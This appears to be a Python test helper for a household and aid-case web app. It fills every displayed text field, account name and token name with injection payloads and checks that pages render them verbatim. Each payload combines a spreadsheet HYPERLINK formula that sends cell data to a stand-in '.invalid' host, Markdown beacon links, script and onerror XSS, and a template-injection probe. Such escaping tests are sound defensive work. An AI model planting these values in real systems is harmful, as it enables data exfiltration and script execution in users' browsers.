"""Hostile text in every text field a page shows: HTML, script, Markdown image and link,
a template and a spreadsheet formula, each carrying the field's tag. Any URL in them is
under ``.invalid``, so nothing could ever be reached even if it were requested."""

from __future__ import annotations

import re

HOST = "beacon.invalid"


def payload(tag: str) -> str:
    """One value carrying every kind of attack, starting with a formula's '='."""
    return (f'=HYPERLINK("http://{HOST}/?x="&A1,"c") ![i](http://{HOST}/{tag}.png) '
            f'**b{tag}** [l](http://{HOST}/{tag}) :red[r{tag}] $x^{tag}$ '
            f'<img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script> '
            f'{{{{7*7}}}} #{tag}')


# layer -> its text columns shown somewhere (names, aliases, notes, descriptions, ...).
FIELDS = {
    "areas": ("name",),
    "grids": ("name",),
    "households": ("alias", "head_name", "address", "phone", "categories"),
    "workers": ("name",),
    "visits": ("note",),
    "tier_changes": ("reason", "changed_by"),
    "cases": ("description", "aid_kind", "reported_by"),
    "case_events": ("actor", "detail"),
    "needs": ("description", "helper"),
    "need_events": ("actor", "detail"),
}


def hostile_frames(frames: dict) -> dict:
    """A copy of demo ``frames`` with every text field above replaced by a payload (the
    row number kept at the end, so values stay distinct)."""
    out = dict(frames)
    for layer, columns in FIELDS.items():
        frame = frames[layer].copy()
        for column in columns:
            present = frame[column].notna()
            frame.loc[present, column] = [f"{payload(f'{layer}.{column}')} {i}"
                                          for i in range(int(present.sum()))]
        out[layer] = frame
    return out


def add_hostile_accounts(store) -> None:
    """An account and a screen token whose names are payloads."""
    store.create_account(payload("accounts.username")[:60], "worker", "a-long-password",
                         worker_id=store.read("workers")["worker_id"].iloc[0])
    store.create_token(payload("tokens.name")[:60], "screen")


def interpreted(text: str) -> list[str]:
    """Signs in shown text that a payload was interpreted or mangled rather than shown
    as written: a payload (found by its closing ``#tag``) that does not stand whole,
    character for character, or escape backslashes left visible."""
    problems = []
    text = text.replace("\u2060", "")  # invisible word joiners that keep URLs unlinked
    for tag in sorted(set(re.findall(r"#([a-z_]+\.[a-z_]+)", text))):
        whole = text.count(payload(tag))
        if whole != text.count(f"#{tag}"):
            at = text.index(f"#{tag}")
            problems.append(f"{tag}: shown as {text[max(at - 160, 0):at + len(tag) + 1]!r}")
    if re.search(r"\\[!\[\]()*:#$<>_`]", text):
        problems.append("escape backslashes visible")
    return problems
